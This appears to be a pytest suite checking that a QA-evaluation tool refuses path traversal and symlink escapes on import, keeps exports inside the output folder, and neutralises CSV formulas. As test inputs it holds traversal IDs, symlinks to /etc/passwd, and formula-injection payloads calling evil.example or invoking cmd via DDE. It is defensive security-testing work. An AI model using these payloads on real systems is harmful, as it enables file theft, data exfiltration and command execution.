"""Issue 33, files: imports read only inside their folder, exports write only inside ``--out``, and no
CSV lsqa writes carries a live spreadsheet formula.

Probes are generated per category. A refused probe must give exit code 2 and one line naming the
input and what to do, with the workspace and the files around it exactly as they were; an accepted
one must be safe: every file inside ``--out``, formulas neutralised, the real names intact in JSONL.
Real data: the NarrativeQA slice of tests/data.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
import shutil
from pathlib import Path

import pytest

from lsqa import store
from lsqa.audit import actions, reference_errors
from lsqa.corpus.ingest import ingest_narrativeqa
from lsqa.dashboard import common, leaderboard_view
from lsqa.errors import InputError
from lsqa.figures import analysis
from lsqa.store import export as export_store
from lsqa.study.imports import import_answers, import_judgments
from lsqa.text.csv_cells import safe_cell
from tests.conftest import TEST_DATA
from tests.support.bad_input import assert_refused, invoke, snapshot

SLICE = (TEST_DATA / "narrativeqa_slice").resolve()
TOM = "2c5f448df18172babaac38806e1fb699a8baf65b"
JEREMY = "2dd593d19e201c9cf4edb0703cad0f525c1038a2"
SECRET = "outside secret: this text must never be stored"


def tree(root: Path, skip: tuple[Path, ...] = ()) -> dict:
    """Every entry under ``root`` (links not followed): type and bytes or link target."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            if any(path == s or s in path.parents for s in skip):
                continue
            if path.is_symlink():
                found[str(path.relative_to(root))] = ("link", os.readlink(path))
            elif path.is_dir():
                found[str(path.relative_to(root))] = ("dir",)
            else:
                found[str(path.relative_to(root))] = ("file", hashlib.sha1(path.read_bytes()).hexdigest())
    return found


# ------------------------------------------------------------------------------ imports: the folder

def _dataset(tmp_path: Path) -> Path:
    """A copy of the slice three folders down, with a secret .txt where `../../../outside_secret` leads."""
    ds = tmp_path / "nest" / "deeper" / "ds"
    shutil.copytree(SLICE, ds)
    (tmp_path / "nest" / "outside_secret.txt").write_text(SECRET + "\n" * 3 + "word " * 500, encoding="utf-8")
    return ds


def _add_document(ds: Path, doc_id: str) -> None:
    """A documents.csv row and a question for ``doc_id`` (so the importer wants its story)."""
    with open(ds / "documents.csv", "a", encoding="utf-8", newline="") as f:
        csv.writer(f).writerow([doc_id, "test", "gutenberg", "", "", "", "Outside", "1000", "", ""])
    with open(ds / "nqa_test_slice_qaps.jsonl", "a", encoding="utf-8") as f:
        f.write(json.dumps({"document_id": doc_id, "set": "test", "q_index": 0, "question": "What is outside?",
                            "answer1": "secret", "answer2": "secret"}) + "\n")


def _link_out(ds: Path, relative: str) -> None:
    """Move a file or folder of the dataset out of it and leave a link to it in its place."""
    inside = ds / relative
    outside = ds.parent / ("moved_" + inside.name)
    shutil.move(inside, outside)
    inside.symlink_to(outside)


def _dotdot_id(ds):
    _add_document(ds, "../../../outside_secret")


def _absolute_id(ds):
    _add_document(ds, str(ds.parent.parent / "outside_secret"))


def _backslash_id(ds):
    _add_document(ds, "..\\..\\..\\outside_secret")


def _long_id(ds):
    _add_document(ds, "a" * 300)


def _nul_id(ds):
    _add_document(ds, "abc\x00../../../outside_secret")


def _story_to_etc_passwd(ds):
    (ds / "stories" / f"{TOM}.txt").unlink()
    (ds / "stories" / f"{TOM}.txt").symlink_to("/etc/passwd")


def _story_to_secret(ds):
    (ds / "stories" / f"{TOM}.txt").unlink()
    (ds / "stories" / f"{TOM}.txt").symlink_to(Path("..") / ".." / ".." / "outside_secret.txt")


def _story_link_loop(ds):
    (ds / "stories" / f"{TOM}.txt").unlink()
    (ds / "stories" / f"{TOM}.txt").symlink_to(f"{TOM}.txt")


def _stories_folder_linked_out(ds):
    _link_out(ds, "stories")


def _documents_linked_out(ds):
    _link_out(ds, "documents.csv")


def _questions_linked_out(ds):
    _link_out(ds, "nqa_test_slice_qaps.jsonl")


def _summaries_linked_out(ds):
    _link_out(ds, "nqa_test_slice_summaries.jsonl")


# probe → (how to make it, what the refusal must name)
IMPORT_PROBES = {
    "document_id ../../../outside_secret": (_dotdot_id, ("documents.csv:5", "use")),
    "absolute document_id": (_absolute_id, ("documents.csv:5",)),
    "document_id with backslashes": (_backslash_id, ("documents.csv:5",)),
    "document_id longer than a file name": (_long_id, ("documents.csv",)),
    "document_id with NUL": (_nul_id, ("documents.csv",)),
    "story linked to /etc/passwd": (_story_to_etc_passwd, (f"{TOM}.txt", "outside", "documents.csv:3")),
    "story linked to a file above the folder": (_story_to_secret, (f"{TOM}.txt", "outside")),
    "story linked to itself": (_story_link_loop, (f"{TOM}.txt",)),
    "stories folder linked out": (_stories_folder_linked_out, ("stories", "outside")),
    "documents.csv linked out": (_documents_linked_out, ("documents.csv", "outside")),
    "question file linked out": (_questions_linked_out, ("qaps.jsonl", "outside")),
    "summary file linked out": (_summaries_linked_out, ("summaries.jsonl", "outside")),
}


@pytest.fixture(scope="module")
def slice_workspace(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("files") / "ws.duckdb"
    ingest_narrativeqa(path, SLICE)
    return path


@pytest.mark.parametrize("existing", [False, True], ids=["no workspace yet", "slice ingested"])
@pytest.mark.parametrize("probe", list(IMPORT_PROBES))
@pytest.mark.sampled(5)
def test_ingest_narrativeqa_reads_only_inside_its_folder(probe, existing, slice_workspace, tmp_path):
    make, must_name = IMPORT_PROBES[probe]
    ds = _dataset(tmp_path)
    make(ds)
    ws = tmp_path / "ws.duckdb"
    if existing:
        shutil.copy(slice_workspace, ws)
    around = tree(tmp_path, skip=(ws, Path(f"{ws}.wal")))
    line = assert_refused(probe, ["ingest-narrativeqa", ds, "--workspace", ws], workspace=ws, must_name=must_name)
    assert SECRET not in line and "root:" not in line
    assert snapshot(ws) is None or existing  # no empty workspace left behind
    assert tree(tmp_path, skip=(ws, Path(f"{ws}.wal"))) == around


def test_links_that_stay_inside_the_folder_are_read(tmp_path):
    """Safe success: the dataset folder itself reached through a link (as tests/data's slice is), and
    a story linked to a file elsewhere inside the folder."""
    ds = _dataset(tmp_path)
    texts = ds / "texts"
    texts.mkdir()
    shutil.move(ds / "stories" / f"{TOM}.txt", texts / f"{TOM}.txt")
    (ds / "stories" / f"{TOM}.txt").symlink_to(Path("..") / "texts" / f"{TOM}.txt")
    (tmp_path / "linked_ds").symlink_to(ds)
    ws = tmp_path / "ws.duckdb"
    result = invoke("ingest-narrativeqa", tmp_path / "linked_ds", "--workspace", ws)
    assert result.exit_code == 0, result.output
    with store.connect(ws) as con:
        texts_stored = dict(con.execute("SELECT id, full_text FROM documents").fetchall())
    assert texts_stored[TOM] == (texts / f"{TOM}.txt").read_text(encoding="utf-8")
    assert "Tom Kitten" in texts_stored[TOM] and texts_stored[JEREMY]


def test_the_story_of_an_unsafe_id_is_refused_by_the_library_too(tmp_path):
    ds = _dataset(tmp_path)
    _dotdot_id(ds)
    with pytest.raises(InputError, match=r"documents\.csv:5: document_id '\.\./\.\./\.\./outside_secret'"):
        ingest_narrativeqa(tmp_path / "ws.duckdb", ds)
    assert not (tmp_path / "ws.duckdb").exists()


# ------------------------------------------------------------------------------ exports: the folder

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|x"]
# Each pairwise judge costs a ranking (1,000 bootstrap fits) per export: few judges, the awkward names.
RATERS = ["team/judge", "../../../pwned3", "Judge", "judge", "=HYPERLINK(\"r\")"]


@pytest.fixture(scope="module")
def judged(tmp_path_factory) -> Path:
    """The slice with four imported systems named like formulas, answers that are formulas, pairwise
    verdicts of raters whose names are paths, and a flag whose note is a formula."""
    folder = tmp_path_factory.mktemp("judged")
    ws = folder / "ws.duckdb"
    ingest_narrativeqa(ws, SLICE)
    questions = [f"nqa:{TOM}:{i}" for i in range(4)]
    answers = [{"question_id": q, "system": s, "answer": FORMULAS[(i + j) % 4]}
               for i, q in enumerate(questions) for j, s in enumerate(FORMULAS)]
    (folder / "a.jsonl").write_text("".join(json.dumps(a) + "\n" for a in answers), encoding="utf-8")
    import_answers(ws, folder / "a.jsonl")
    verdicts = [{"question_id": q, "rater": r, "kind": "pairwise", "system_a": FORMULAS[k], "system_b": FORMULAS[k + 1],
                 "label": "AB"[(k + i) % 2]} for r in RATERS for i, q in enumerate(questions) for k in range(3)]
    (folder / "j.jsonl").write_text("".join(json.dumps(v) + "\n" for v in verdicts), encoding="utf-8")
    import_judgments(ws, folder / "j.jsonl")
    actions.flag(ws, "@annotator", questions[0], "1", "wrong", note='=HYPERLINK("http://evil.example")')
    return ws


@pytest.fixture
def ws(judged, tmp_path) -> Path:
    path = tmp_path / "ws.duckdb"
    shutil.copy(judged, path)
    return path


SAFE_FILE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*")


def _check_export(out: Path, fmt: str, ws: Path) -> dict[str, object]:
    """Every file is inside `out` with a safe name; each ranking names its real judge; returns the files."""
    files = {p.name: p for p in out.iterdir()}
    assert all(p.is_file() and not p.is_symlink() for p in files.values())
    written = json.loads((out / export_store.MARKER).read_text(encoding="utf-8"))["files"]
    assert set(files) == set(written) | {export_store.MARKER}
    assert all(SAFE_FILE_NAME.fullmatch(n) and len(n) < 120 for n in written)
    rankings = {json.loads(files[n].read_text(encoding="utf-8"))["judge"] for n in written if n.startswith("ranking_")}
    assert rankings == set(RATERS)  # every judge ranked, under its real name
    assert {f"{t}.{fmt}" for t in export_store.EXPORTS} <= set(written)
    return files


def test_export_writes_every_file_inside_out_named_by_slugs(ws, tmp_path):
    """The prober's case: judges named `team/judge` and `../../../pwned3`, a folder `ranking_..` beside."""
    (tmp_path / "ranking_..").mkdir()
    out = tmp_path / "out"
    around = tree(tmp_path, skip=(out, ws, Path(f"{ws}.wal")))
    result = invoke("export", "--workspace", ws, "--out", out)
    assert result.exit_code == 0, result.output
    _check_export(out, "csv", ws)
    assert tree(tmp_path, skip=(out, ws, Path(f"{ws}.wal"))) == around  # nothing outside --out, no temp folder
    assert not list(tmp_path.rglob("*pwned3*"))[1:]  # the one ranking file inside out, nothing elsewhere


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_export_in_other_formats_keeps_the_exact_text(ws, tmp_path, fmt):
    out = tmp_path / "out"
    written = analysis.export(ws, out, fmt)
    files = _check_export(out, fmt, ws)
    assert written["answers." + fmt] == 16
    if fmt == "jsonl":
        answers = [json.loads(line) for line in files["answers.jsonl"].read_text(encoding="utf-8").splitlines()]
        assert {a["text"] for a in answers} == set(FORMULAS) == {a["system_name"] for a in answers}
        judges = {json.loads(line)["judge"] for line in files["verdicts.jsonl"].read_text(encoding="utf-8").splitlines()}
        assert judges == set(RATERS)


def _foreign(out: Path) -> None:
    out.mkdir()
    (out / "notes.txt").write_text("my own notes", encoding="utf-8")
    (out / "ranking_..").mkdir()


def _previous_export_plus_a_user_file(out: Path) -> None:
    out.mkdir()
    (out / export_store.MARKER).write_text(json.dumps({"files": ["answers.csv"]}), encoding="utf-8")
    (out / "answers.csv").write_text("old", encoding="utf-8")
    (out / "verdicts.csv").write_text("the user's own verdicts.csv", encoding="utf-8")


def _a_file(out: Path) -> None:
    out.write_text("a user's file", encoding="utf-8")


def _a_broken_marker(out: Path) -> None:
    out.mkdir()
    (out / export_store.MARKER).write_text("{not json", encoding="utf-8")
    (out / "answers.csv").write_text("mine", encoding="utf-8")


def _dangling_link(out: Path) -> None:
    out.symlink_to(out.parent / "nowhere")


def _link_to_a_file(out: Path) -> None:
    (out.parent / "target.txt").write_text("x", encoding="utf-8")
    out.symlink_to(out.parent / "target.txt")


def _under_a_file(out: Path) -> None:
    out.parent.write_text("x", encoding="utf-8")


# probe → (how to make `out` (None: a fixed path), the path to pass, refused under --force too)
OUT_PROBES = {
    "an existing file": (_a_file, None, True),
    "a link to a file": (_link_to_a_file, None, True),
    "a dangling link": (_dangling_link, None, True),
    "a folder under a file": (_under_a_file, "plain.txt/out", True),
    "/dev/null": (None, "/dev/null", True),
    "/proc/self": (None, "/proc/self", True),
    "/sys/kernel": (None, "/sys/kernel", True),
    "a folder with the user's files": (_foreign, None, False),
    "a previous export the user added a file to": (_previous_export_plus_a_user_file, None, False),
    "a folder with a marker that is not lsqa's": (_a_broken_marker, None, False),
}


@pytest.mark.parametrize("force", [False, True], ids=["", "--force"])
@pytest.mark.parametrize("probe", list(OUT_PROBES))
def test_export_refuses_an_out_it_did_not_make(probe, force, judged, tmp_path):
    make, given, refused_forced = OUT_PROBES[probe]
    if force and not refused_forced:
        pytest.skip("allowed under --force: test_force_writes_lsqa_files_and_keeps_the_others")
    if given and given.startswith("/") and not Path(given).exists():
        pytest.skip(f"{given} does not exist here")
    ws = tmp_path / "ws.duckdb"
    shutil.copy(judged, ws)
    out = Path(given) if given and given.startswith("/") else tmp_path / (given or "out")
    if make:
        make(out)
    around = tree(tmp_path, skip=(ws, Path(f"{ws}.wal")))
    args = ["export", "--workspace", ws, "--out", out] + (["--force"] if force else [])
    assert_refused(probe, args, workspace=ws, must_name=(str(out), "--out"))
    assert tree(tmp_path, skip=(ws, Path(f"{ws}.wal"))) == around


def test_export_over_a_previous_export_replaces_it_whole(ws, tmp_path):
    out = tmp_path / "out"
    assert invoke("export", "--workspace", ws, "--out", out).exit_code == 0
    result = invoke("export", "--workspace", ws, "--out", out, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    files = _check_export(out, "jsonl", ws)
    assert not [n for n in files if n.endswith(".csv")]  # the csv export is gone, not mixed in
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temp folders left


def test_export_into_an_empty_folder_and_a_new_deep_path(ws, tmp_path):
    (tmp_path / "empty").mkdir()
    for out in (tmp_path / "empty", tmp_path / "new" / "deep" / "out"):
        assert invoke("export", "--workspace", ws, "--out", out).exit_code == 0
        _check_export(out, "csv", ws)


def test_force_writes_lsqa_files_and_keeps_the_others(ws, tmp_path):
    out = tmp_path / "out"
    _foreign(out)
    (out / "answers.csv").write_text("to be replaced", encoding="utf-8")
    mine = tree(out)
    result = invoke("export", "--workspace", ws, "--out", out, "--force")
    assert result.exit_code == 0, result.output
    after = tree(out)
    assert {k: after[k] for k in ("notes.txt", "ranking_..")} == {k: mine[k] for k in ("notes.txt", "ranking_..")}
    assert after["answers.csv"] != mine["answers.csv"]
    written = json.loads((out / export_store.MARKER).read_text(encoding="utf-8"))["files"]
    assert set(after) == set(written) | {"notes.txt", "ranking_..", export_store.MARKER}
    # still not lsqa's alone: the next export without --force is refused
    assert_refused("foreign after --force", ["export", "--workspace", ws, "--out", out], workspace=ws,
                   must_name=("notes.txt", "--force"))


@pytest.mark.parametrize("previous", [False, True], ids=["new folder", "over a previous export"])
def test_a_failing_export_leaves_nothing_half_written(ws, tmp_path, monkeypatch, previous):
    """The prober's crash after 6 of 7 files, made on purpose: the folder is as it was before."""
    out = tmp_path / "out"
    if previous:
        analysis.export(ws, out, "csv")
    before = tree(tmp_path, skip=(ws, Path(f"{ws}.wal")))
    real = export_store.ExportWriter.file
    calls = []

    def file(self, name):
        calls.append(name)
        if name.startswith("ranking_") and len([c for c in calls if c.startswith("ranking_")]) == 3:
            raise OSError(28, "No space left on device")
        return real(self, name)

    monkeypatch.setattr(export_store.ExportWriter, "file", file)
    with pytest.raises(OSError, match="No space left"):
        analysis.export(ws, out, "csv")
    assert len(calls) > 6
    assert tree(tmp_path, skip=(ws, Path(f"{ws}.wal"))) == before


# ------------------------------------------------------------------------------ file names

def test_file_slugs_are_safe_distinct_and_deterministic():
    names = ["team/judge", "team_judge", "team?judge", "../../../pwned3", "..", ".", "", "a\x00b", "a_b",
             "Judge", "judge", "JUDGE", "x" * 10_000, "x" * 10_001, "gрt4o", "gpt4o", "/etc/passwd",
             "ranking_..", "-rf", " leading space", "\u202eevil", "judge-2"]
    slugs = export_store.file_slugs(names)
    assert set(slugs) == set(names)
    assert len({s.casefold() for s in slugs.values()}) == len(names)  # distinct, even ignoring case
    for name, slug in slugs.items():
        assert SAFE_FILE_NAME.fullmatch(slug) and len(slug) <= 100, (name, slug)
    assert {n: slugs[n] for n in ("gpt4o", "a_b", "JUDGE", "team_judge")} == {
        "gpt4o": "gpt4o", "a_b": "a_b", "JUDGE": "JUDGE", "team_judge": "team_judge"}  # safe names kept
    assert (slugs["Judge"], slugs["judge"]) == ("Judge-2", "judge-3")  # case twins: the first in sorted order keeps it
    shuffled = names[:]
    random.Random(33).shuffle(shuffled)
    assert export_store.file_slugs(shuffled) == slugs


# ------------------------------------------------------------------------------ formulas in CSV cells

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [p + rest for p in PREFIXES for rest in ('HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0")]
NUMBERS = ["-0.5", "+3", "-1e-3", "-12", "0.25", "7"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _assert_safe(value: str, original) -> None:
    if isinstance(original, str) and original[:1] in PREFIXES and original not in NUMBERS:
        assert value == "'" + original, (value, original)
    else:
        assert value == (original if isinstance(original, str) else str(original)), (value, original)


@pytest.mark.parametrize("value", PAYLOADS + NUMBERS + [-0.5, 3, None])
def test_safe_cell(value):
    out = safe_cell(value)
    if value is None or not isinstance(value, str):
        assert out == value  # numbers stay numbers
    else:
        _assert_safe(out, value)


def test_export_csv_neutralises_every_text_column(ws, tmp_path):
    out = tmp_path / "out"
    analysis.export(ws, out, "csv")
    with open(out / "answers.csv", encoding="utf-8", newline="") as f:
        answers = list(csv.DictReader(f))
    assert {a["text"] for a in answers} == {"'" + f for f in FORMULAS}
    assert {a["system_name"] for a in answers} == {"'" + f for f in FORMULAS}
    with open(out / "verdicts.csv", encoding="utf-8", newline="") as f:
        verdicts = list(csv.DictReader(f))
    assert "'=HYPERLINK(\"r\")" in {v["judge"] for v in verdicts} and "team/judge" in {v["judge"] for v in verdicts}
    assert {v["system_a"][:1] for v in verdicts} == {"'"}
    with open(out / "reference_flags.csv", encoding="utf-8", newline="") as f:
        flag = next(csv.DictReader(f))
    assert flag["annotator"] == "'@annotator" and flag["note"] == "'=HYPERLINK(\"http://evil.example\")"
    for path in out.glob("*.csv"):  # no cell of any CSV starts a formula
        for row in _cells(path.read_bytes()):
            assert not [c for c in row if c[:1] in PREFIXES and c not in NUMBERS], (path.name, row)


def test_the_export_copy_neutralises_each_prefix_and_keeps_numbers(ws, tmp_path):
    """Every prefix, and text that is a plain number, through the COPY the export uses."""
    values = PAYLOADS + NUMBERS + ["plain", "a=b"]
    sql = ("SELECT * FROM (VALUES " + ", ".join(f"({i}, '{v.replace(chr(39), chr(39) * 2)}', {-0.5 * i})"
                                                for i, v in enumerate(values)) + ") AS t(n, text, score)")
    path = tmp_path / "cells.csv"
    with store.connect(ws) as con:
        assert export_store.copy_table(con, sql, path, "csv") == len(values)
        export_store.copy_table(con, sql, tmp_path / "cells.jsonl", "jsonl")
    rows = _cells(path.read_bytes())[1:]
    for (n, text, score), original in zip(rows, values, strict=False):
        _assert_safe(text, original)
        assert float(score) == -0.5 * int(n)  # a number column is written as the number
    exact = [json.loads(line)["text"] for line in (tmp_path / "cells.jsonl").read_text(encoding="utf-8").splitlines()]
    assert exact == values


def test_dashboard_downloads_neutralise_formulas(ws):
    """The leaderboard's ranking and win-probability tables and the triage list, through common.to_csv."""
    result = analysis.ranking(ws, "=HYPERLINK(\"r\")", bootstrap=20)
    for rows in (leaderboard_view.ranking_rows(result), leaderboard_view.win_rows(result)):
        data = common.to_csv(rows)
        for row in _cells(data):  # header included: win_rows' columns are system names
            assert not [c for c in row if c[:1] in PREFIXES and c not in NUMBERS and not _number(c)], row
        assert "'" + FORMULAS[0] in data.decode("utf-8").replace('""', '"')
    rows = [{"text": v, "score": -0.5, "n": 3} for v in PAYLOADS + NUMBERS]
    parsed = _cells(common.to_csv(rows))
    assert parsed[0] == ["text", "score", "n"]
    for (text, score, n), original in zip(parsed[1:], PAYLOADS + NUMBERS, strict=False):
        _assert_safe(text, original)
        assert (score, n) == ("-0.5", "3")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_errata_csv_neutralises_formulas_and_jsonl_keeps_them(ws, monkeypatch):
    # The triage score (a column of numbers) is not what is tested here, and takes ~25 s on the slice.
    monkeypatch.setattr(reference_errors, "suspects", lambda workspace, **_: [])
    rows = reference_errors.errata(ws)
    assert rows and rows[0]["annotators"] == ["@annotator"]
    rows += [{**rows[0], "notes": [p], "reasons": [p], "annotators": [p], "reference_text": p} for p in PAYLOADS]
    parsed = list(csv.DictReader(io.StringIO(reference_errors.errata_csv(rows).decode("utf-8"), newline="")))
    assert parsed[0]["annotators"] == "'@annotator"
    for row, original in zip(parsed[1:], PAYLOADS, strict=False):
        for key in ("notes", "reasons", "annotators", "reference_text"):
            _assert_safe(row[key], original)
    exact = [json.loads(line) for line in reference_errors.errata_jsonl(rows).decode("utf-8").splitlines()]
    assert [r["reference_text"] for r in exact[1:]] == PAYLOADS
